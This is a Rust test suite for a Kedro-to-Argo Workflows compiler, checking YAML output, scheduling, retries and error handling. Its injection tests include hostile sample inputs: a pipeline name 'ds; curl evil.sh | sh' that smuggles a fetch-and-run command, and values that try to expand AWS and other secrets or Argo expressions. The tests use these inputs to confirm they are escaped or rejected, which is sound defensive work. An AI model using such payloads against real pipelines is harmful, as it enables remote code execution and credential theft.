use argo_model::Document;
use serde_json::{Value, json};

use crate::testing::{Fixture, config_json};
use crate::{CompileOptions, FuseError, LowerOptions, TextFormat, compile};

fn yaml(f: &Fixture, config: Value, options: &CompileOptions) -> String {
    let project = f.project_with(config_json(config));
    let compiled = compile(&project, options).expect("compiles");
    let text = Document::from(compiled.workflow.clone())
        .to_yaml_string()
        .expect("yaml");
    // Deterministic: a second compile gives the same bytes.
    let again = compile(&project, options).expect("compiles");
    assert_eq!(
        Document::from(again.workflow)
            .to_yaml_string()
            .expect("yaml"),
        text
    );
    // The text written alongside the check is the same text, in either format.
    for format in [TextFormat::Yaml, TextFormat::Json] {
        let with_text = compile(&project, &options.clone().text(format)).expect("compiles");
        let expected = Document::from(with_text.workflow.clone())
            .to_text(format)
            .expect("text");
        let written = with_text.text.expect("text asked for");
        assert_eq!(
            written.trim_end_matches('\n'),
            expected.trim_end_matches('\n')
        );
        assert!(written.ends_with('\n'));
        assert_eq!(with_text.workflow, compiled.workflow);
    }
    text
}

fn fused() -> Fixture {
    Fixture::new()
        .group("preprocess_data_fused", json!({"machine_type": "default"}))
        .node(
            "preprocess_companies_node",
            &["companies"],
            &["preprocessed_companies"],
            json!({"group": "preprocess_data_fused"}),
        )
        .node(
            "preprocess_shuttles_node",
            &["shuttles"],
            &["preprocessed_shuttles"],
            json!({"group": "preprocess_data_fused"}),
        )
        .node(
            "clean_node",
            &["preprocessed_shuttles"],
            &["clean_shuttles"],
            json!({"group": "preprocess_data_fused"}),
        )
        .node(
            "create_model_input_table_node",
            &["clean_shuttles", "preprocessed_companies", "reviews"],
            &["model_input_table"],
            json!({}),
        )
        .memory(&["preprocessed_shuttles"])
}

#[test]
fn scenario_fused_group() {
    let y = yaml(
        &fused(),
        json!({"runner": {"use_memory_datasets": true}}),
        &CompileOptions::default(),
    );
    insta::assert_snapshot!("fused_group", y);
}

#[test]
fn scenario_gpu() {
    let f = Fixture::new()
        .node("featurize", &["raw"], &["features"], json!({}))
        .node(
            "train",
            &["features", "params:lr"],
            &["model"],
            json!({"machine_type": "gpu"}),
        )
        .parameters(&["lr"]);
    let c = json!({"machine_types": {"gpu": {
        "node_selector": {"cloud.google.com/gke-accelerator": "nvidia-l4"},
        "tolerations": [{"key": "dedicated", "operator": "Equal", "value": "ml", "effect": "NoSchedule"}],
        "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
            {"matchExpressions": [{"key": "pool", "operator": "In", "values": ["gpu"]}]}]}}}
    }}});
    let opts = CompileOptions::default().lower(
        LowerOptions::default()
            .image("registry.example/demo:abc123")
            .params(vec![("lr".into(), "0.1".into())])
            .workflow_name("demo_run"),
    );
    let y = yaml(&f, c, &opts);
    assert!(!y.contains("podSpecPatch"));
    insta::assert_snapshot!("gpu", y);
}

fn neo4j() -> Value {
    json!({
        "name": "neo4j",
        "container": {
            "name": "kedro",
            "command": ["/bin/sh", "-c"],
            "env": [{"name": "NEO4J_HOST", "value": "bolt://127.0.0.1:7687"}],
            "args": "until curl -s http://localhost:7474 > /dev/null; do sleep 5; done\nkedro run -p \"{{inputs.parameters.pipeline}}\" -e \"{{inputs.parameters.environment}}\" -n \"{{inputs.parameters.kedro_nodes}}\"\n"
        },
        "sidecars": [{
            "name": "neo4j", "image": "neo4j:5.21.0-enterprise",
            "env": [{"name": "NEO4J_AUTH", "secret_ref": {"name": "neo4j", "key": "auth"}}],
            "volume_mounts": [{"name": "license", "mount_path": "/licenses"}]
        }],
        "volumes": [{"name": "license", "secret_ref": {"name": "neo4j", "key": "license", "path": "license.txt"}}]
    })
}

#[test]
fn scenario_custom_template_with_sidecar() {
    let f = Fixture::new()
        .node("build_graph", &["nodes"], &["graph"], json!({}))
        .node(
            "run_neo4j_graph_algorithm",
            &["graph"],
            &["output"],
            json!({"template": "neo4j"}),
        );
    let y = yaml(
        &f,
        json!({"template": {"templates": [neo4j()]}}),
        &CompileOptions::default(),
    );
    insta::assert_snapshot!("custom_template_sidecar", y);
}

#[test]
fn scenario_init_template_and_secrets() {
    let f =
        Fixture::new()
            .node("a", &["raw"], &["x"], json!({}))
            .node("b", &["x"], &["y"], json!({}));
    let c = json!({
        "template": {
            "environment": [
                {"name": "TOKEN", "secret_ref": {"name": "secret", "key": "TOKEN"}},
                {"name": "MLFLOW_TRACKING_URI", "value": "http://mlflow:5000"}
            ],
            "templates": [{
                "name": "init-mlflow-run",
                "container": {"name": "init-mlflow-run", "command": ["python", "-c"],
                              "args": "import mlflow\nopen('/tmp/mlflow_run_id', 'w').write('1')\n"},
                "outputs": {"parameters": [{"name": "mlflow_run_id", "path": "/tmp/mlflow_run_id"}]}
            }],
            "init_templates": ["init-mlflow-run"]
        },
        "retry_strategy": {"limit": 2, "retry_policy": "OnError", "backoff": {"duration": "30s", "factor": 2}},
        "retry_overrides": {"b": {"limit": 0}},
        "ttl_strategy": {"seconds_after_success": 3600},
        "pod_gc": {"strategy": "OnPodSuccess"},
        "service_account": "argo-runner",
        "labels": {"team": "ml"},
        "annotations": {"owner": "ml-platform"}
    });
    let y = yaml(&f, c, &CompileOptions::default());
    assert!(!y.contains("ka.random"));
    insta::assert_snapshot!("init_template_secrets", y);
}

#[test]
fn scenario_name_collisions() {
    let f = Fixture::new()
        .node("ns.load_data", &["raw"], &["a"], json!({}))
        .node("ns_load.data", &["raw"], &["b"], json!({}))
        .node("ns-load-data", &["raw"], &["c"], json!({}))
        .node("Pipeline", &["a", "b", "c"], &["d"], json!({}))
        .node(&"very_long_node_name".repeat(5), &["d"], &["e"], json!({}));
    let y = yaml(
        &f,
        json!({"deployment": {"tag": "${ka.random:}"}}),
        &CompileOptions::default(),
    );
    insta::assert_snapshot!("name_collisions", y);
}

#[test]
fn unknown_params_and_env_mismatch_are_errors() {
    let project = fused().project_with(config_json(json!({})));
    let opts = CompileOptions::default()
        .lower(LowerOptions::default().params(vec![("lr".into(), "1".into())]));
    assert!(matches!(
        compile(&project, &opts),
        Err(FuseError::Compile(_))
    ));
    let project = fused()
        .parameters(&["lr"])
        .project_with(config_json(json!({})));
    let opts = CompileOptions::default()
        .lower(LowerOptions::default().params(vec![("lr".into(), "1,2".into())]));
    assert!(matches!(
        compile(&project, &opts),
        Err(FuseError::Compile(crate::CompileError::ParamValue { .. }))
    ));
    let opts = CompileOptions::default().env("base");
    let err = compile(&project, &opts).expect_err("mismatch");
    assert!(
        err.to_string().contains("exported for Kedro env `cloud`"),
        "{err}"
    );
}

#[test]
fn invalid_custom_template_references_fail_the_compile() {
    let f = Fixture::new().node("a", &["raw"], &["x"], json!({"template": "bad"}));
    let c = json!({"template": {"templates": [{"name": "bad", "container": {"name": "c", "command": ["sh"], "args": "echo {{inputs.parameters.nope}}"}}]}});
    let project = f.project_with(config_json(c));
    let err = compile(&project, &CompileOptions::default()).expect_err("lint");
    assert!(
        matches!(err, FuseError::Lower(crate::LowerError::Invalid { .. })),
        "{err}"
    );
    // Asked for text, the check (on its own thread) still fails the compile: no text.
    let options = CompileOptions::default().text(TextFormat::Yaml);
    let err = compile(&project, &options).expect_err("lint");
    assert!(
        matches!(err, FuseError::Lower(crate::LowerError::Invalid { .. })),
        "{err}"
    );
}

#[test]
fn memory_crossing_fails_the_compile() {
    let f = Fixture::new()
        .node("a", &["raw"], &["x"], json!({}))
        .node("b", &["x"], &["y"], json!({}))
        .memory(&["x"]);
    let err = compile(&f.project(), &CompileOptions::default()).expect_err("crossing");
    assert!(err.to_string().contains("`x`"));
    assert!(!err.hints().is_empty());
}

#[test]
fn retry_expression_reaches_the_templates() {
    let c = json!({"retry_strategy": {"limit": 3, "retry_policy": "Always",
                                      "expression": "lastRetry.status == 'Error'"}});
    let project = fused().project_with(config_json(c));
    let wf = compile(&project, &CompileOptions::default())
        .expect("compiles")
        .workflow;
    let expressions: Vec<Option<&str>> = wf
        .spec
        .templates
        .iter()
        .filter_map(|t| t.retry_strategy.as_ref())
        .map(|r| r.expression.as_deref())
        .collect();
    assert!(!expressions.is_empty());
    assert!(
        expressions
            .iter()
            .all(|e| *e == Some("lastRetry.status == 'Error'")),
        "{expressions:?}"
    );
}

/// Issue 16.4: user data cannot become a command or an expression.
mod injection {
    use super::*;
    use crate::error::LowerError;

    fn lower_error(result: Result<crate::Compiled, FuseError>) -> LowerError {
        match result {
            Err(FuseError::Lower(e)) => e,
            other => panic!("expected a lowering error, got {other:?}"),
        }
    }

    fn with_params(params: &[(&str, &str)]) -> Result<crate::Compiled, FuseError> {
        let f = Fixture::new()
            .node("train", &["features", "params:lr"], &["model"], json!({}))
            .parameters(&["lr"]);
        let params = params
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect();
        compile(
            &f.project(),
            &CompileOptions::default().lower(LowerOptions::default().params(params)),
        )
    }

    #[test]
    fn params_are_escaped_for_kubernetes() {
        let compiled = with_params(&[("lr", "$(AWS_SECRET_ACCESS_KEY)")]).expect("compiles");
        let yaml = Document::from(compiled.workflow)
            .to_yaml_string()
            .expect("yaml");
        assert!(
            yaml.contains("value: lr=$$(AWS_SECRET_ACCESS_KEY)"),
            "{yaml}"
        );
        assert!(!yaml.contains("=$(AWS"), "{yaml}");
    }

    #[test]
    fn params_with_argo_expressions_are_refused() {
        for (key, value) in [("lr", "{{workflow.name}}"), ("lr", "{{=sprig.env('X')}}")] {
            let err = lower_error(with_params(&[(key, value)]));
            assert!(matches!(err, LowerError::Expression { .. }), "{err:?}");
            assert!(
                err.to_string()
                    .starts_with("the value of parameter `lr` contains `{{`"),
                "{err}"
            );
        }
    }

    fn project_named(pipeline: &str, env: &str) -> kedro_graph::Project {
        let f = Fixture::new().node("train", &["features"], &["model"], json!({}));
        let mut ir = f.json(&config_json(json!({})));
        ir["pipelines"][0]["name"] = json!(pipeline);
        ir["project"]["env"] = json!(env);
        kedro_graph::Project::from_json(&ir.to_string()).expect("valid IR")
    }

    #[test]
    fn pipeline_and_env_names_are_plain_names() {
        let project = project_named("ds; curl evil.sh | sh", "cloud");
        let err = lower_error(compile(
            &project,
            &CompileOptions::default().pipeline("ds; curl evil.sh | sh"),
        ));
        assert!(
            matches!(
                err,
                LowerError::UnsafeName {
                    what: "pipeline",
                    ..
                }
            ),
            "{err:?}"
        );
        let project = project_named("__default__", "$(HOME)");
        let err = lower_error(compile(&project, &CompileOptions::default()));
        assert!(
            matches!(err, LowerError::UnsafeName { what: "env", .. }),
            "{err:?}"
        );
        assert!(!err.hints().is_empty());
    }

    #[test]
    fn memory_dataset_names_cannot_break_the_list() {
        for name in ["a,b", "$(SECRET)", "{{workflow.name}}"] {
            let f = Fixture::new()
                .group("g", json!({}))
                .node("first", &["raw"], &[name], json!({"group": "g"}))
                .node("second", &[name], &["out"], json!({"group": "g"}))
                .memory(&[name]);
            let err = lower_error(compile(
                &f.project_with(config_json(
                    json!({"runner": {"use_memory_datasets": true}}),
                )),
                &CompileOptions::default(),
            ));
            assert!(
                matches!(err, LowerError::MemoryDatasetName { ref dataset, .. } if dataset == name),
                "{name}: {err:?}"
            );
        }
    }
}

/// The pods' `kedro run` names the pipeline with the option the project's Kedro has: Kedro 1.0
/// and 1.1 only know `--pipeline` (`No such option: --pipelines`), 1.2 added `--pipelines`
/// (Kedro's `kedro/framework/cli/project.py`).
#[test]
fn kedro_run_uses_the_pipeline_option_of_the_projects_kedro() {
    let worker_args = |kedro_version: &str| -> Vec<String> {
        let mut ir = fused().json(&config_json(json!({})));
        ir["project"]["kedro_version"] = json!(kedro_version);
        let project = kedro_graph::Project::from_json(&ir.to_string()).expect("valid IR");
        let wf = compile(&project, &CompileOptions::default())
            .expect("compiles")
            .workflow;
        let args: Vec<Vec<String>> = wf
            .spec
            .templates
            .iter()
            .filter_map(|t| t.container.as_ref())
            .map(|c| c.args.clone().unwrap_or_default())
            .collect();
        assert!(!args.is_empty());
        assert!(args.iter().all(|a| *a == args[0]), "{args:?}");
        args[0].clone()
    };
    let old = worker_args("1.0.0");
    assert_eq!(
        old[..3],
        ["run", "--pipeline", "{{inputs.parameters.pipeline}}"]
    );
    assert!(!old.iter().any(|a| a == "--pipelines"), "{old:?}");
    assert_eq!(worker_args("1.1.1")[1], "--pipeline");
    assert_eq!(worker_args("1.2.0")[1], "--pipelines");
    assert_eq!(worker_args("1.7.0")[1], "--pipelines");
}

#[test]
fn a_partial_run_is_named_and_labelled_as_such() {
    let f = fused();
    let project = f.project_with(config_json(json!({})));
    let selection: kedro_graph::Selection = serde_json::from_value(json!({
        "pipeline": "__default__",
        "filter": {"nodes": [], "from_nodes": ["clean_node"], "to_nodes": [], "tags": []},
        "nodes": ["clean_node", "create_model_input_table_node"]
    }))
    .expect("valid selection");
    // Recorded in the IR, the selection applies without being asked for.
    let project = project.with_selection(Some(selection));
    let options = CompileOptions::default().group_by(crate::GroupBy::Chains);
    let compiled = compile(&project, &options).expect("compiles");
    let meta = &compiled.workflow.metadata;
    assert_eq!(meta.generate_name.as_deref(), Some("demo-default-partial-"));
    let labels = meta.labels.as_ref().expect("labels");
    assert_eq!(labels["argo-kedro.io/partial"], "true");
    assert_eq!(labels["argo-kedro.io/filter"], "from-nodes-clean_node");
    assert_eq!(labels["argo-kedro.io/grouping"], "chains");
    let annotations = meta.annotations.as_ref().expect("annotations");
    assert_eq!(
        annotations["argo-kedro.io/filter"],
        "--from-nodes=clean_node"
    );
    // The fused group the filter cuts runs whole, with its memory dataset.
    let plan = &compiled.plan;
    assert_eq!(plan.node_count(), 4);
    assert_eq!(plan.partial.as_ref().map(|p| p.selected), Some(2));
    // Without a selection: no partial labels, the name of a full run.
    let full = compile(
        &f.project_with(config_json(json!({}))),
        &CompileOptions::default(),
    )
    .expect("compiles");
    let labels = full.workflow.metadata.labels.expect("labels");
    assert!(!labels.contains_key("argo-kedro.io/partial"));
    assert!(!labels.contains_key("argo-kedro.io/grouping"));
    assert_eq!(
        full.workflow.metadata.generate_name.as_deref(),
        Some("demo-default-")
    );
}
